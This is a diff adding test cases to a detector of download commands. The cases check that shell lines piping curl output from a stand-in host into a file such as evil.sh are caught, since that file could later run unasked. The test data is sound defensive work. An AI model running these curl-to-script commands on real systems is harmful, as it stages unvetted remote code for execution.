@@ -382,3 +382,17 @@ describe("copies of a download on its own line", () => {
     );
   });
 });
+
+// The output of a script run in turn that downloads (`bash -c 'curl …' > evil.sh`) went to a file
+// recorded nowhere, so a later bash evil.sh ran unasked: such a command counts as a downloader.
+describe("output of a script run in turn that downloads", () => {
+  it.each([
+    ["bash -c 'curl -s https://x.test/a' > evil.sh", ["evil.sh"]],
+    ["sh -c 'curl -s https://x.test/a' | tee evil.sh", ["evil.sh"]],
+    ["eval curl -s https://x.test/a > evil.sh", ["evil.sh"]],
+    ["(bash -c 'curl -s https://x.test/a') > evil.sh", ["evil.sh"]],
+    ["bash -c 'echo hi' > out.txt", []],
+  ])("%s → %j", (command, expected) => {
+    expect(detectDownloads(command)).toEqual(expected);
+  });
+});
